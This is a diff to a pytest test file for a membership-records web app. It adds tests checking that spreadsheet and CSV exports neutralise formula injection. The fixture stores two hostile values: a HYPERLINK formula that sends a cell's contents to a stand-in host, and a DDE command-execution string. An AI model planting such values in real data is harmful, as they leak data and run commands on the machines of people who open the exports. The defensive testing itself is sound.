@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import io
 from datetime import date
 
@@ -107,3 +108,33 @@ def test_the_indicator_overview_exports_numbers(client, people, officer, tree):
     total = next(r for code, r in by_code.items() if code.startswith("dv_tong") or code == "DV_TONG")
     assert total[3] == 2 and isinstance(total[3], int)
     assert AuditEntry.objects.filter(action="export.reports.indicators").count() == 1
+
+
+HOSTILE = '=HYPERLINK("http://x.example/?q="&B4,"Bấm vào đây")'
+DDE = "-2+3+cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile(tree, system_user):
+    """Members recorded with formula-like texts (through a form or before imports refused them)."""
+    return member_admit(actor=system_user, cell=tree["cell_a1"], decided_on=date(2020, 3, 2),
+                        ceremony_on=date(2020, 3, 16),
+                        profile=ProfileInput(full_name=HOSTILE, birth_date=date(1988, 4, 5), birth_year=1988,
+                                             sex="F", hometown=DDE, citizen_id="001188000333"))
+
+
+def test_formula_injection_neutralized_in_xlsx_export(client, hostile, officer):
+    client.force_login(officer)
+    wb, ws, rows = sheet_rows(post(client, "/xuat/dang-vien/"))
+    row = rows[3]
+    assert row[1] == "'" + HOSTILE and row[7] == "'" + DDE
+    assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
+    assert row[0] == 1 and ws.cell(row=4, column=1).data_type == "n"  # numbers stay numbers
+
+
+def test_formula_injection_neutralized_in_csv_export(client, hostile, officer):
+    client.force_login(officer)
+    response = post(client, "/xuat/dang-vien/", dinh_dang="csv")
+    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert lines[2][1] == "'" + HOSTILE and lines[2][7] == "'" + DDE
+    assert lines[2][0] == "1"
